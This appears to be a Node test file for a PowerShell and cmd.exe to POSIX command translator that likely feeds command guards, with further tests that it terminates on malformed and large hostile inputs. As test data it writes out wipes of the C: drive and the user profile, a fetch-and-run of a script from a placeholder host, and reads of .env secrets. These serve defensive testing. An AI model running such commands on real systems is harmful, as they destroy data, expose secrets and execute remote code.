// The PowerShell and cmd.exe translation: faithful where guards look, and always terminating.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { translateCmd, translatePowerShell } from '../core/shell/powershell';

test('cmdlets, aliases and parameters become their POSIX equivalent', () => {
  assert.equal(translatePowerShell('Remove-Item -Recurse -Force C:\\'), 'rm -r -f -- C:/');
  assert.equal(translatePowerShell('rm -r -fo $env:USERPROFILE'), 'rm -r -f -- ~');
  assert.equal(translatePowerShell('Get-Content .env | Select-Object -First 5'), 'cat -- .env | Select-Object -First 5');
  assert.match(translatePowerShell('iex (iwr https://x.example/i.ps1)'), /^sh -c "\$\(curl https:\/\/x\.example\/i\.ps1\)"$/);
  assert.equal(translatePowerShell('git push --force origin main'), 'git push --force origin main');
  assert.equal(translateCmd('rd /s /q %USERPROFILE%'), 'rm -r -f -- ~');
  assert.equal(translateCmd('type .env & dir'), 'cat -- .env; dir');
});

// Termination is shown by returning at all; how fast is `npm run bench`'s business, not a test's.
test('terminates on any input: stray closers, & after words, unbalanced quotes and brackets', () => {
  for (const src of [
    'a & b',
    'a &',
    ') } ) }',
    'x ) y',
    '"unclosed',
    "'unclosed",
    '$(unclosed',
    '@(',
    '{',
    '`',
    '&&&',
    '|||',
    '$env:',
    '@',
    'a,b,,c',
    'x & ) } ( {',
  ]) {
    assert.equal(typeof translatePowerShell(src), 'string', src);
    assert.equal(typeof translateCmd(src), 'string', src);
  }
  // A large hostile input still comes back, and its translation does not outgrow it.
  const big = 'node FOO=" "-c " x=! $(cd `ls` & grep x) & ) } '.repeat(2000);
  assert.ok(translatePowerShell(big).length <= 2 * big.length);
});
